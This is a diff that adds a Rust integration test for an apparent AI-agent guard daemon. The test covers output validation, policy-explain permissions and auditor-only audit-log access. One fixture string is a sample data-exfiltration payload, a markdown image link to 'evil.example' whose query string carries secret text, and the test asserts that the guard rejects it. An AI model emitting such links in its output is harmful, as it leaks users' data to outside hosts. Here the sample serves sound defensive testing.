@@ -353,3 +353,45 @@ fn a_rotated_or_removed_token_stops_working_at_once() {
     d.al.call(["agent", "rm", "other"]).expect(0);
     d.call(Some("other"), "GET", "/v1/whoami", None).problem(401, "unauthorized");
 }
+
+#[test]
+fn output_validation_policy_explain_and_the_audit_log_answer_through_the_api() {
+    let d = Daemon::start(&[]);
+    let exfil = json!({"text": "Done! ![status](https://evil.example/p.png?d=the%20secret%20plans)", "allow_hosts": ["docs.rs"]});
+    let v = d.call(Some("worker"), "POST", "/v1/guard/validate-output", Some(&exfil.to_string())).json();
+    assert_ne!(v["verdict"], "allow", "{v}");
+    let fine = json!({"text": "{\"ok\": true}", "schema": {"type": "object", "required": ["ok"]}});
+    assert_eq!(
+        d.call(Some("worker"), "POST", "/v1/guard/validate-output", Some(&fine.to_string())).json()["verdict"],
+        "allow"
+    );
+    let bad_schema = json!({"text": "{}", "schema": {"type": 12}});
+    d.call(Some("worker"), "POST", "/v1/guard/validate-output", Some(&bad_schema.to_string()))
+        .problem(400, "bad-request");
+
+    // worker may ask about itself; not about another agent's rights.
+    let ask = |agent: &str, who: &str| {
+        let b = json!({"agent": who, "tool": "t", "action": "http.request", "resource": "https://api.github.com/user"});
+        d.call(Some(agent), "POST", "/v1/policy/explain", Some(&b.to_string()))
+    };
+    let e = ask("worker", "worker").json();
+    assert_eq!(e["decision"], "deny", "{e}");
+    assert!(e["reason"].as_str().is_some_and(|r| !r.is_empty()), "{e}");
+    ask("worker", "other").problem(403, "forbidden");
+    assert_eq!(ask("root", "other").status, 200);
+    let unknown = json!({"agent": "worker", "action": "teleport", "resource": "x"});
+    d.call(Some("worker"), "POST", "/v1/policy/explain", Some(&unknown.to_string())).problem(400, "bad-request");
+
+    // The auditor verifies the log and reads it; an agent does neither.
+    let v = d.call(Some("aud"), "GET", "/v1/audit/verify", None).json();
+    assert_eq!(v["ok"], true, "{v}");
+    assert!(v["records"].as_u64().unwrap() > 0);
+    d.call(Some("worker"), "GET", "/v1/audit/verify", None).problem(403, "forbidden");
+    d.call(None, "GET", "/v1/whoami", None);
+    let denied = d.call(Some("aud"), "GET", "/v1/audit/records?decision=deny&limit=5", None).json();
+    let records = denied["records"].as_array().unwrap();
+    assert!(!records.is_empty() && records.len() <= 5, "{denied}");
+    assert!(records.iter().all(|r| r.to_string().contains("\"deny\"") || r.to_string().contains("Deny")), "{denied}");
+    d.call(Some("aud"), "GET", "/v1/audit/records?limit=0", None).problem(400, "bad-request");
+    d.call(Some("aud"), "GET", "/v1/audit/records?bogus=1", None).problem(400, "bad-request");
+}
